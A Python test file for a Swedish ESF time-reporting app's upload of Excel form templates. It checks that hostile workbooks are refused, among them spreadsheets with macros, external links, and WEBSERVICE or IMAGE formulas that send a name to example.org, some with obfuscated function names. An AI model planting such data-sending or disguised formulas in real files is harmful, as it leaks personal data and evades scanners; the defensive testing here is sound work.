"""The genuine form: handed in, mapped, shown, and then what every file of its kind is made in."""

import io
import re
from collections.abc import Callable
from zipfile import ZipFile

import openpyxl
import pytest
from database import Database
from flask.testing import FlaskClient
from openpyxl.formatting.rule import CellIsRule
from openpyxl.styles import PatternFill, Protection
from openpyxl.worksheet.datavalidation import DataValidation
from redovisningsprov import NOW, Hus
from webbplats import make, token

from bench.generator.esfprojekt import FORSTA, MINST
from tracker.db import raw
from tracker.identity.keys import Keys
from tracker.redovisning.bestallning import Vad


GUL = PatternFill("solid", fgColor="FFFF99")
CELLER = {"c-projekt": "B2", "c-manad_namn": "B3", "c-namn": "B4", "c-dag_timmar": "B7"}
SCB_CELLER = {"c-rad_personnummer": "A2", "c-rad_start": "B2", "c-rad_slut": "C2"}
SCB_CELLER |= {"c-rad_timmar": "D2"}
INTYG_CELLER = {"c-personnummer": "A2", "c-manad_nr": "F1", "c-dag_timmar": "B4"}
INTYG_CELLER |= {"h-dag_timmar": "ja"}
MAKRON = "ESF047: Blanketten har makron."
LANKAR = "ESF048: Blanketten hämtar uppgifter"


@pytest.fixture(scope="module")
def hus(database: Database, keys: Keys, tmp_path_factory: pytest.TempPathFactory) -> Hus:
    return Hus.stort(database.transaction, keys, tmp_path_factory.mktemp("blanketter"), MINST)


@pytest.fixture(scope="module")
def ekonom(database: Database, hus: Hus, keys: Keys) -> FlaskClient:
    return hus.ekonom(make(database, hus.projekt.intag, keys, hus.clock, hus.folder))


def form() -> bytes:
    """A form as an authority makes them."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Tidrapport"
    sheet.merge_cells("B2:D2")
    for rad, text in enumerate(("TIDRAPPORT", "Projekt", "Månad", "Namn", None, "Dag"), 1):
        sheet[f"A{rad}"] = text
    for rad in range(7, 38):
        sheet[f"A{rad}"], sheet[f"B{rad}"].fill = rad - 6, GUL
        sheet[f"B{rad}"].protection = Protection(locked=False)
    sheet["B38"] = "=SUM(B7:B37)"
    sheet.column_dimensions["B"].width = 31.5
    sheet.protection.sheet = True
    months = DataValidation(type="list", formula1='"januari,februari,mars"')
    months.add("B3")
    sheet.add_data_validation(months)
    sheet.conditional_formatting.add("B7:B37", CellIsRule("greaterThan", ["13"], fill=GUL))
    book.create_sheet("Instruktion")["A1"] = "Fyll i gult"
    return saved(book)


def saved(book: openpyxl.Workbook) -> bytes:
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def with_part(name: str, data: bytes) -> Callable[[], bytes]:
    """The form with one part more, or another in its place."""

    def made() -> bytes:
        out = io.BytesIO()
        with ZipFile(io.BytesIO(form())) as old, ZipFile(out, "w") as new:
            for one in old.namelist():
                if one != name:
                    new.writestr(one, old.read(one))
            new.writestr(name, data)
        return out.getvalue()

    return made


def calling(formula: str) -> Callable[[], bytes]:
    """The form with a formula that sends a name when the file is opened."""

    def made() -> bytes:
        book = openpyxl.load_workbook(io.BytesIO(form()))
        book["Instruktion"]["A2"] = f'={formula}("https://example.org/"&Tidrapport!B4)'
        return saved(book)

    return made


def filled() -> bytes:
    """One that somebody has used: more rows than the next file has, and their people stay in it."""
    book = openpyxl.load_workbook(io.BytesIO(form()))
    book["Instruktion"]["A900"] = "19900101-9802"
    return saved(book)


def hidden(formula: bytes) -> Callable[[], bytes]:
    """The same as the XML of a sheet says it in other words."""
    sheet = (
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        b'<row r="1"><c r="A1"><f>' + formula + b'("x")</f></c></row></sheetData></worksheet>'
    )
    return with_part("xl/worksheets/sheet2.xml", sheet)


RELATION = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId9" Type="http://x/image" Target="https://example.org/a.png"'
    b' TargetMode="External"/></Relationships>'
)
DALIGA: dict[str, tuple[Callable[[], bytes], str]] = {
    "nothing": (lambda: b"", "Välj blanketten"),
    "text": (lambda: b"Namn;Timmar", "ingen Excelfil"),
    "the old format": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"0" * 600, "lösenord"),
    "macros": (with_part("xl/vbaProject.bin", b"x"), MAKRON),
    "old macros": (with_part("xl/macrosheets/sheet1.xml", b"<a/>"), MAKRON),
    "links": (with_part("xl/externalLinks/externalLink1.xml", b"<a/>"), LANKAR),
    "a picture from elsewhere": (
        with_part("xl/worksheets/_rels/sheet1.xml.rels", RELATION), LANKAR,
    ),
    "the same in other case": (
        with_part("xl/worksheets/_rels/sheet1.xml.RELS", RELATION.replace(b"Ext", b"ext")), LANKAR,
    ),
    "the same without a type": (
        with_part("xl/worksheets/_rels/sheet1.xml.rels",
                  RELATION.replace(b'Type="http://x/image"', b"")), LANKAR,
    ),
    "no UTF-8": (with_part("xl/worksheets/_rels/sheet1.xml.rels", b'<a b="\xff"/>'), "ESF040"),
    "an add-in": (with_part("xl/webextensions/webextension1.xml", b"<a/>"), LANKAR),
    "a formula that sends": (calling("WEBSERVICE"), LANKAR),
    "a picture that sends": (calling("_xlfn.IMAGE"), LANKAR),
    "a hidden formula that sends": (hidden(b"WEBSERV&#73;CE"), LANKAR),
    "a parted formula that sends": (hidden(b"WEBSERV<!-- -->ICE"), LANKAR),
    "a filled form": (filled, "tom blankett: i Instruktion!A900 står ett personnummer"),
    "no workbook": (with_part("xl/workbook.xml", b"<workbook/>"), "ESF04"),
}  # fmt: skip


def hand_in(client: FlaskClient, at: str, data: bytes, name: str = "blankett.xlsx"):
    sent = {"csrf": token(client, at), "fil": (io.BytesIO(data), name)}
    return client.post(at, data=sent if data else {"csrf": sent["csrf"]})


def press(client: FlaskClient, at: str, **said: str):
    page = client.get(at).text
    found = re.search(r'name="csrf" value="([^"]*)"', page)
    ident = re.search(r'name="id" value="([^"]*)"', page)
    assert found
    assert ident
    return client.post(at, data={**said, "csrf": found[1], "id": ident[1]})


@pytest.mark.parametrize("sort", DALIGA)
def test_a_form_that_cannot_be_used_is_refused_in_a_sentence(
    hus: Hus, ekonom: FlaskClient, sort: str
) -> None:
    made, mening = DALIGA[sort]
    got = hand_in(ekonom, f"/esf/{hus.slug}/blanketter/tidrapport", made())
    assert (got.status_code, mening in got.text) == (422, True), got.text[-3000:]


def test_a_form_is_mapped_shown_and_used_until_it_is_no_longer(
    hus: Hus, ekonom: FlaskClient
) -> None:
    base = f"/esf/{hus.slug}/blanketter"
    assert ekonom.get(base).text.count("Stegvis egen layout") == 3
    at = hand_in(ekonom, f"{base}/tidrapport", form()).headers["Location"]
    empty = ekonom.get(at).text
    assert "Fyll i gult" in empty
    assert "Rätta det här först" not in empty
    wrong = press(ekonom, at, spara="ja", **{**CELLER, "c-dag_timmar": "B8", "c-ar": "C2"})
    assert wrong.status_code == 422
    assert "Timmar per dag: Välj en annan cell: B38 har en formel, som skulle f" in wrong.text
    assert "År: Välj B2 i stället: C2 är en del av en sammanslagen ruta." in wrong.text
    for cell, sagt in (("B", "ESF044"), ("Blad9!B2", "ESF043"), ("XFE1", "ESF044")):
        got = press(ekonom, at, visa="ja", **{"c-namn": cell})
        assert (got.status_code, sagt in got.text) == (422, True), cell
    assert "Skriv minst en cell" in press(ekonom, at, visa="ja").text
    shown = press(ekonom, at, visa="ja", **CELLER)
    assert shown.status_code == 200
    assert '<td class="fylld">Anställd Exempel</td>' in shown.text
    assert '<td class="fylld">6,5</td>' in shown.text
    assert "Cellen är låst i blanketten" in shown.text
    half = {"c-namn": "B4", "c-dag_timmar": "B7"}
    lacks = press(ekonom, at, spara="ja", kalla="Mallen", **half)
    assert lacks.status_code == 422
    assert "Månadens namn: skriv en cell. Filen är ofullständig utan." in lacks.text
    assert press(ekonom, at, visa="ja", **half).status_code == 200, "a look on the way is free"
    assert "Skriv vilken blankett" in press(ekonom, at, spara="ja", **CELLER).text
    assert ekonom.get(base).text.count("Stegvis egen layout") == 3
    saved_ = press(ekonom, at, spara="ja", kalla="Tidrapport 2024-01, esf.se", **CELLER)
    assert saved_.status_code == 303
    page = ekonom.get(base).text
    assert "Tidrapport 2024-01, esf.se" in page
    assert "4 fält" in page
    assert 'value="B7"' in ekonom.get(at).text

    _, run = hus.gor(Vad.TIDRAPPORTER, FORSTA, FORSTA)
    assert run.fel is None
    namn, data = hus.filer(Vad.TIDRAPPORTER)[0]
    check_filled(data)
    check_downloads(hus, ekonom)
    _, run = hus.gor(Vad.TIDRAPPORTER, FORSTA.plus(3), FORSTA.plus(3))
    assert "ESF045: Rätta värdet: blanketten tillåter inte april i B3." in (run.fel or "")
    assert "Månadens namn" in (run.fel or "")

    press(ekonom, f"{base}/tidrapport", egen="ja")
    assert ekonom.get(base).text.count("Stegvis egen layout") == 3
    hus.gor(Vad.TIDRAPPORTER, FORSTA.plus(3), FORSTA.plus(3))
    own = openpyxl.load_workbook(io.BytesIO(hus.filer(Vad.TIDRAPPORTER)[0][1]))
    assert own.sheetnames == ["Instruktion", "Tidrapport", "Underlag"]
    mine = ekonom.get(f"/esf/{hus.slug}/tid/p0/{FORSTA.plus(3)}/tidrapport.xlsx")
    assert openpyxl.load_workbook(io.BytesIO(mine.data)).sheetnames == own.sheetnames
    assert namn.startswith("Tidrapport_personal_")


def check_downloads(hus: Hus, ekonom: FlaskClient) -> None:
    """What the page of the sheet gives is the form as well, or says what it does not take."""
    sheet = f"/esf/{hus.slug}/tid/p0"
    check_filled(ekonom.get(f"{sheet}/{FORSTA}/tidrapport.xlsx").data)
    april = ekonom.get(f"{sheet}/{FORSTA.plus(3)}/tidrapport.xlsx")
    assert april.status_code == 422
    assert "ESF045: Rätta värdet: blanketten tillåter inte april i B3." in april.text


def check_filled(data: bytes) -> None:
    """The hours are in it, and all that the form had is there as it was."""
    with ZipFile(io.BytesIO(data)) as got, ZipFile(io.BytesIO(form())) as had:
        assert set(got.namelist()) == set(had.namelist())
        assert got.read("xl/worksheets/sheet2.xml") == had.read("xl/worksheets/sheet2.xml")
        looks, own = (iter(re.findall(rb"<xf .*?(?:/>|</xf>)", one.read("xl/styles.xml")))
                      for one in (got, had))  # fmt: skip
        assert all(one in looks for one in own)  # in their order: more may come last (ADR 40)
    sheet = openpyxl.load_workbook(io.BytesIO(data))["Tidrapport"]
    assert (sheet["B2"].value, sheet["B3"].value) == ("Rätt stöd för mig", "januari")
    assert sum(sheet[f"B{rad}"].value or 0 for rad in range(7, 38)) > 0
    assert sheet["B38"].value == "=SUM(B7:B37)"
    assert sheet.column_dimensions["B"].width == 31.5
    assert sheet.protection.sheet
    assert sheet.data_validations.dataValidation[0].sqref
    assert len(sheet.conditional_formatting) == 1
    assert sheet["B8"].fill.fgColor.rgb == "00FFFF99"


def test_sheets_say_the_number_only_where_the_project_has_decided_so(hus: Hus) -> None:
    made, fore = hus.projekt, NOW.date().isoformat()
    data = {"slug": "p0", "personnamn": "Person 0", "kategori": "pl", "slag": "direkt",
            "arbetsgivare": "Norra förbundet", "anstalld_fran": f"{FORSTA}-01",
            "anvandare": str(made.anvandare["p0"])}  # fmt: skip
    made.send([made.event("personal.upplagd", hus.slug, data, datum=fore,
                          person={"personnummer": "19900101-9802"})])  # fmt: skip
    found = []
    for nr, val in ((6, "nej"), (7, "ja")):
        sats = {"namn": "personnummer_pa_tidrapport", "varde": val, "kalla": "Beslut 8"}
        made.send([made.event("esfsats.beslutad", hus.slug, sats, datum=fore)])
        _, run = hus.gor(Vad.TIDRAPPORTER, FORSTA.plus(nr), FORSTA.plus(nr))
        assert run.fel is None
        there = {
            namn: data for namn, data in hus.filer(Vad.TIDRAPPORTER) if str(FORSTA.plus(nr)) in namn
        }
        for data_ in there.values():
            sheet = openpyxl.load_workbook(io.BytesIO(data_))["Tidrapport"]
            rader = {rad[0]: rad[1] for rad in sheet.iter_rows(max_row=10, values_only=True)}
            found.append((val, rader["Namn"], rader["Personnummer"]))
    numbered = [one for one in found if one[2]]
    assert numbered == [("ja", "Person 0", "19900101-9802")]
    assert len(found) == 8


def test_the_file_to_scb_and_the_certificates_use_theirs(hus: Hus, ekonom: FlaskClient) -> None:
    base = f"/esf/{hus.slug}/blanketter"
    book = openpyxl.Workbook()
    book.active.append(["Personnummer", "Start", "Slut", "Timmar"])
    for vad, celler in (
        ("scb", SCB_CELLER),
        ("narvarointyg", INTYG_CELLER),
    ):
        at = hand_in(ekonom, f"{base}/{vad}", saved(book)).headers["Location"]
        assert press(ekonom, at, spara="ja", kalla="Mallen", **celler).status_code == 303
    hus.gor(Vad.SCB, FORSTA, FORSTA)
    sheet = openpyxl.load_workbook(io.BytesIO(hus.filer(Vad.SCB)[0][1])).active
    rader = list(sheet.iter_rows(2, values_only=True))
    fil = hus.lagen(hus.raknat())[0].fil
    assert [rad[0] for rad in rader] == [one.nummer for one in fil.rader]
    assert [round(rad[3] * 60) for rad in rader] == [one.minuter for one in fil.rader]
    assert all(isinstance(rad[0], str) for rad in rader)
    made, dag = hus.projekt, FORSTA.plus(5).forsta
    one = next(one for one in made.deltagare if one.grund and one.inne(FORSTA.plus(5)))
    tid = {"personal": "p0", "minuter": 60, "delprojekt": one.delprojekt, "aktivitet": 1}
    made.send([
        made.event("narvaro.registrerad", one.hos, {"minuter": 60, "traff": "grupp"},
                   insats=one.delprojekt, deltagande=one.deltagande, datum=dag.isoformat()),
        made.event("tid.rapporterad", hus.slug, {**tid, "traff": "grupp"}, datum=dag.isoformat()),
    ])  # fmt: skip
    val = {"urval": [["p0", str(FORSTA.plus(5))]]}
    _, run = hus.gor(Vad.KONTROLL, FORSTA.plus(5), FORSTA.plus(5), val)
    assert run.fel is None
    with ZipFile(io.BytesIO(hus.filer(Vad.KONTROLL)[0][1])) as mapp:
        intyg = [one for one in mapp.namelist() if "Intyg_" in one]
        first = openpyxl.load_workbook(io.BytesIO(mapp.read(intyg[0]))).active
    assert first["A1"].value == "Personnummer"
    assert re.fullmatch(r"[0-9]{12}|[0-9]{8}Tf[12]9", str(first["A2"].value))
    assert first["B4"].value == 1.0


def test_the_form_is_sealed_and_seen_by_nobody_else(
    hus: Hus, ekonom: FlaskClient, database: Database
) -> None:
    at = f"/esf/{hus.slug}/blanketter/narvarointyg"
    unused, kept = (hand_in(ekonom, at, form()).headers["Location"] for _ in range(2))
    assert (ekonom.get(unused).status_code, ekonom.get(kept).status_code) == (404, 200)
    assert ekonom.get(kept.replace("narvarointyg", "scb")).status_code == 404
    assert ekonom.get(f"/esf/{hus.slug}/blanketter/annat").status_code == 404
    ask = "SELECT innehall FROM blankettfil WHERE forbund = %s"
    with hus.transaction(forbund=hus.slug, huvudman=("*",)) as session:
        sealed = [bytes(row[0]) for row in raw(session).execute(ask, (hus.slug,))]
    assert sealed
    assert not any(b"xl/worksheets" in one for one in sealed)
    for context in ({"forbund": hus.projekt.forbund[0], "huvudman": ("*",)}, {"forbund": hus.slug}):
        with hus.transaction(**context) as session:
            assert not raw(session).execute(ask, (hus.slug,)).fetchall()
            ask2 = "SELECT 1 FROM blankett_version WHERE forbund = %s"
            assert not raw(session).execute(ask2, (hus.slug,)).fetchall()
